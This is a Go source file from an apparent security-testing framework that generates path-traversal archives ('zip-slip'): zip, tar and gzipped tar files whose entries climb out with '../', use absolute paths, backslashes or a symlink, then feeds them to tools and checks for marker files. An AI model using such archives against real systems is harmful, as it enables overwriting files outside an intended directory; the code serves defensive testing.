package attack

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"path"
	"strings"

	"github.com/mcpsf/mcpsf"
)

// archiveSecrets is the first index of the files that archive entries are
// written to.
const archiveSecrets = 112

func archiveTraversal() Class {
	return Class{
		ID:    "archive-traversal",
		Title: "An entry of an archive is written outside the directory it is unpacked to",
		Yield: kinds{"data": 45}.about(kinds{"data": 85, "path": 85, "text": 60, "unknown": 60, "name": 60},
			"zip", "tar", "archive", "tgz", "bundle", "unpack", "extract", "backup", "restore", "import"),
		Payloads: archivePayloads,
		Balanced: 4,
	}
}

// archive is an archive with a path traversal, and the file its entry is
// written to.
type archive struct {
	name   string
	bytes  []byte
	marker string
	why    string
}

// archives are planted in every root, for tools that take a path.
func (w *World) archives() []archive {
	var all []archive
	for i, f := range []struct {
		name string
		pack func(entry string) []byte
		why  string
		from string
	}{
		{"a.zip", zipped, "entry of a zip that climbs out", climb},
		{"b.tar", tarred, "entry of a tar that climbs out", climb},
		{"c.tar.gz", squeezed, "entry of a compressed tar that climbs out", climb},
		{"d.zip", zipped, "entry of a zip with an absolute path", ""},
		{"e.tar", tarred, "entry of a tar with an absolute path", ""},
		{"f.tar", linked, "entry of a tar behind a link that leads out", ""},
		{"g.zip", zipped, "entry of a zip that climbs out with backslashes", strings.ReplaceAll(climb, "/", `\`)},
	} {
		marker := w.Secret(archiveSecrets + i)
		entry := f.from + marker
		if strings.Contains(f.from, `\`) {
			entry = strings.ReplaceAll(entry, "/", `\`)
		}
		all = append(all, archive{f.name, f.pack(entry), marker, f.why})
	}
	return all
}

func archivePayloads(w *World, p Place) []Payload {
	var all []Payload
	root := w.root(p)
	for _, a := range w.archives() {
		value := base64.StdEncoding.EncodeToString(a.bytes)
		if p.Kind == "path" || p.Kind == "name" && !p.mentions("base64", "bytes", "content") {
			value = path.Join(w.den(root), a.name)
			if !strings.HasPrefix(p.text(), "/") {
				value = strings.TrimPrefix(value, root+"/")
			}
		}
		all = append(all, Payload{Value: value, Sign: mcpsf.SignOpen, Marker: a.marker, Why: a.why})
	}
	return all
}

// entryContent is what the entries hold.
const entryContent = "unpacked\n"

// Writing to a buffer cannot fail except by a bug here, which the test of the
// archives finds.

func zipped(entry string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range []string{"notes.txt", entry} {
		if f, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store}); err == nil {
			_, _ = f.Write([]byte(entryContent))
		}
	}
	_ = z.Close()
	return b.Bytes()
}

func tarred(entry string) []byte {
	return pack(tar.Header{Name: "notes.txt", Mode: 0o644}, tar.Header{Name: entry, Mode: 0o644})
}

func squeezed(entry string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(tarred(entry))
	_ = z.Close()
	return b.Bytes()
}

// linked begins with a symbolic link to the entry's directory.
func linked(entry string) []byte {
	return pack(
		tar.Header{Name: "docs", Typeflag: tar.TypeSymlink, Linkname: path.Dir(entry), Mode: 0o777},
		tar.Header{Name: "docs/" + path.Base(entry), Mode: 0o644},
	)
}

func pack(headers ...tar.Header) []byte {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	for _, h := range headers {
		if h.Typeflag != tar.TypeSymlink {
			h.Typeflag, h.Size = tar.TypeReg, int64(len(entryContent))
		}
		if t.WriteHeader(&h) == nil && h.Size > 0 {
			_, _ = t.Write([]byte(entryContent))
		}
	}
	_ = t.Close()
	return b.Bytes()
}
